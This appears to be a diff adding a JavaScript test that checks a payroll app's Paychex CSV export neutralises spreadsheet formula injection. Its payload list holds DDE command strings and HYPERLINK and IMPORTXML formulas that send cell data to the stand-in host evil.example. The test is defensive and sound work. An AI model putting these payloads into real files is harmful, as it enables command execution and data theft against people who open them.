@@ -1,0 +1,67 @@
+import { createRequire } from 'node:module'
+import { resolve } from 'node:path'
+import { none, noted } from '../rows.mjs'
+
+const title = 'Formulas in the payroll file'
+const what =
+  'Names and numbers that a spreadsheet would run, through the very code that writes the Paychex file. No cell may begin like a formula, and the file must read back cell for cell.'
+
+const fromWeb = createRequire(new URL('../../apps/web/package.json', import.meta.url))
+/** With them a cell begins to be a formula, in a spreadsheet or in one set to Japanese; the last ones are skipped over. */
+const BEGINNINGS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=']
+const FORMULAS = [
+  "cmd|'/C calc'!A0",
+  'HYPERLINK("http://evil.example/?"&A1,"pay")',
+  'SUM(1+1)*cmd|"/C calc"!A0',
+  'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
+  '1,2\r\n=3",=4',
+]
+const RUNS = /^[=+\-@＝＋－＠\p{Cc}]/u
+
+async function prove() {
+  const paychexCsv = await writer()
+  const payloads = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => beginning + formula))
+  const csv = paychexCsv(payloads.map(entryWith), 'America/New_York')
+  const { data } = fromWeb('papaparse').parse(csv, { newline: '\r\n' })
+  const lines = data.slice(1)
+  const changed = payloads.filter(
+    (payload, nth) => lines[nth]?.[4] !== `'${payload} Marrow` || lines[nth]?.[5] !== `'${payload}`,
+  )
+  return [
+    noted('payloads', payloads.length),
+    none('lines too many or too few', Math.abs(lines.length - payloads.length)),
+    none('cells that would run', lines.flat().filter((cell) => RUNS.test(cell)).length),
+    none('payloads that came out otherwise than defused', changed.length),
+  ]
+}
+
+/** The web app's own writer, from its source. */
+async function writer() {
+  const { createServer } = await import(fromWeb.resolve('vite'))
+  const vite = await createServer({
+    root: resolve('apps/web'),
+    server: { middlewareMode: true, watch: null, ws: false },
+    optimizeDeps: { noDiscovery: true },
+    appType: 'custom',
+    logLevel: 'error',
+  })
+  try {
+    const { paychexCsv } = await vite.ssrLoadModule('/src/features/timesheets/export/paychex-csv.ts')
+    return paychexCsv
+  } finally {
+    await vite.close()
+  }
+}
+
+const entryWith = (payload, id) => ({
+  id,
+  startTime: '2024-10-04T21:00:00.000Z',
+  endTime: '2024-10-05T05:00:00.000Z',
+  payrate: 15.5,
+  cashTips: 0,
+  creditTips: 0,
+  deduction: 0,
+  user: { firstName: payload, lastName: 'Marrow', paychexId: payload },
+})
+
+export const csv = { title, what, prove }
